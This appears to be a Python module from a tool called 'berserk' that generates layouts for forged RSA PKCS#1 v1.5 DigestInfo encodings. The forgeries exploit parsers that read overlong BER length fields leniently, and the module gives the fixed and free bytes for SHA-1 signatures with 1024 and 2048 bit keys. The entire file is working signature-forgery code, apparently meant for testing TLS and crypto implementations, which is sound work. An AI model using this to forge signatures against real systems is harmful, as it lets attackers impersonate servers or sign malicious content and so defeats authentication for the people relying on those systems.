# Author: berserk developers, (c) 2025
# Released under Gnu GPL v2.0, see LICENSE file for details

"""
Layouts of the forged DigestInfo encodings.

A lenient BER parser reads a long form length field of ``0x80 + n`` octets
as the value of its last few octets, so all but the last four octets of the
field can hold arbitrary bytes. Each template describes which bytes of the
cubed signature are fixed (prefix, optional middle, suffix followed by the
digest) and which are left to chance.

Layout of the 1024 bit template::

    00 01 FF 00 30 D9 | 85 garbage | 00 00 00 21 30 09 06 05 2B 0E 03 02 1A
    05 00 04 14 | digest

Layout of the 2048 bit template::

    00 01 00 30 DB | 87 garbage | 00 00 00 A0 30 FF | 123 garbage |
    00 00 00 09 06 05 2B 0E 03 02 1A 05 00 04 14 | digest
"""

from collections import namedtuple

from ecdsa import der
from tlslite.constants import HashAlgorithm

from .errors import UnsupportedParameters


SHA1_OID = (1, 3, 14, 3, 2, 26)
SHA1_LEN = 20

# number of octets of an overlong length field the parser actually reads
LENGTH_VALUE_OCTETS = 4
# longest length field encodable in the long form
MAX_LENGTH_OCTETS = 0x7F

_NULL = b"\x05\x00"


class DigestInfoTemplate(namedtuple("DigestInfoTemplate",
                                    ["hash_name", "bit_len", "prefix",
                                     "suffix", "hash_len", "middle",
                                     "middle_offset"])):
    """
    Description of the forged encoding for one hash and modulus size.

    :ivar str hash_name: name of the hash, as used by ``hashlib``
    :ivar int bit_len: size of the modulus in bits
    :ivar bytes prefix: bytes required at the top of the cube
    :ivar bytes suffix: bytes required right above the digest
    :ivar int hash_len: length of the digest in bytes
    :ivar bytes middle: bytes required inside the cube, may be empty
    :ivar int middle_offset: offset of the least significant byte of
        ``middle`` counted from the least significant byte of the cube
    """

    __slots__ = ()

    def __new__(cls, hash_name, bit_len, prefix, suffix, hash_len,
                middle=b"", middle_offset=0):
        self = super(DigestInfoTemplate, cls).__new__(
            cls, hash_name, bit_len, bytes(prefix), bytes(suffix), hash_len,
            bytes(middle), middle_offset)
        self._check()
        return self

    @property
    def size(self):
        """Size of the signature in bytes."""
        return self.bit_len // 8

    @property
    def tail_len(self):
        """Number of low bytes fixed by the suffix and the digest."""
        return len(self.suffix) + self.hash_len

    def regions(self):
        """
        Return the fixed byte ranges of the cube.

        Ranges are ``(start, end)`` pairs counted from the least significant
        byte, lowest first.
        """
        ret = [(0, self.tail_len)]
        if self.middle:
            ret.append((self.middle_offset,
                        self.middle_offset + len(self.middle)))
        ret.append((self.size - len(self.prefix), self.size))
        return ret

    def _check(self):
        if self.bit_len % 8:
            raise ValueError("Modulus size must be a multiple of 8 bits")
        if self.tail_len > self.size:
            raise ValueError("Suffix and digest don't fit in the modulus")
        if self.middle_offset + len(self.middle) > self.size:
            raise ValueError("Middle doesn't fit in the modulus")
        regions = self.regions()
        for low, high in zip(regions, regions[1:]):
            # at least one unconstrained byte has to separate the regions
            if low[1] >= high[0]:
                raise ValueError("Template regions overlap or touch: {0} "
                                 "and {1}".format(low, high))


def _length_value(value):
    """Encode the last octets of an overlong length field."""
    return value.to_bytes(LENGTH_VALUE_OCTETS, "big")


def _long_form(tag, octets):
    """Tag followed by the first octet of a long form length."""
    return bytes((tag, 0x80 | octets))


def _sha1_1024():
    size = 1024 // 8
    padding = b"\x00\x01\xff\x00"
    algorithm = der.encode_sequence(der.encode_oid(*SHA1_OID), _NULL)
    digest_header = b"\x04" + der.encode_length(SHA1_LEN)
    content = len(algorithm) + len(digest_header) + SHA1_LEN

    # everything between the SEQUENCE header and its content is the
    # length field
    octets = size - len(padding) - 2 - content
    return DigestInfoTemplate(
        hash_name="sha1",
        bit_len=1024,
        prefix=padding + _long_form(0x30, octets),
        suffix=_length_value(content) + algorithm + digest_header,
        hash_len=SHA1_LEN)


def _sha1_2048():
    size = 2048 // 8
    padding = b"\x00\x01\x00"
    algorithm = der.encode_oid(*SHA1_OID) + _NULL
    digest_header = b"\x04" + der.encode_length(SHA1_LEN)
    suffix = _length_value(len(algorithm)) + algorithm + digest_header

    # the AlgorithmIdentifier SEQUENCE uses the longest length field
    # possible, the outer SEQUENCE length field takes the rest
    inner_header = _long_form(0x30, MAX_LENGTH_OCTETS)
    content = len(inner_header) + MAX_LENGTH_OCTETS + len(algorithm) + \
        len(digest_header) + SHA1_LEN
    outer_octets = size - len(padding) - 2 - content
    middle = _length_value(content) + inner_header
    return DigestInfoTemplate(
        hash_name="sha1",
        bit_len=2048,
        prefix=padding + _long_form(0x30, outer_octets),
        suffix=suffix,
        hash_len=SHA1_LEN,
        middle=middle,
        middle_offset=(MAX_LENGTH_OCTETS - LENGTH_VALUE_OCTETS) +
        len(suffix) + SHA1_LEN)


_TEMPLATES = dict(((i.hash_name, i.bit_len), i)
                  for i in (_sha1_1024(), _sha1_2048()))


def hash_name(hash_alg):
    """
    Normalise the hash identifier.

    :param hash_alg: name of the hash (``"sha1"``, ``"SHA-1"``) or a
        :py:class:`tlslite.constants.HashAlgorithm` value
    :rtype: str
    """
    if isinstance(hash_alg, int) and not isinstance(hash_alg, bool):
        name = HashAlgorithm.toRepr(hash_alg)
        if name is None:
            raise UnsupportedParameters(
                "Unknown hash algorithm id: {0}".format(hash_alg))
        return name
    if not isinstance(hash_alg, str):
        raise UnsupportedParameters(
            "Unknown hash algorithm: {0!r}".format(hash_alg))
    return hash_alg.lower().replace("-", "").replace("_", "")


def lookup(hash_alg, bit_len):
    """
    Return the template for given hash and modulus size.

    :raises UnsupportedParameters: when the combination is not supported
    :rtype: DigestInfoTemplate
    """
    name = hash_name(hash_alg)
    try:
        return _TEMPLATES[(name, bit_len)]
    except (KeyError, TypeError):
        raise UnsupportedParameters(
            "Unsupported hash / key size combination: {0} / {1}"
            .format(name, bit_len))


def supported():
    """List the supported ``(hash_name, bit_len)`` pairs."""
    return sorted(_TEMPLATES)
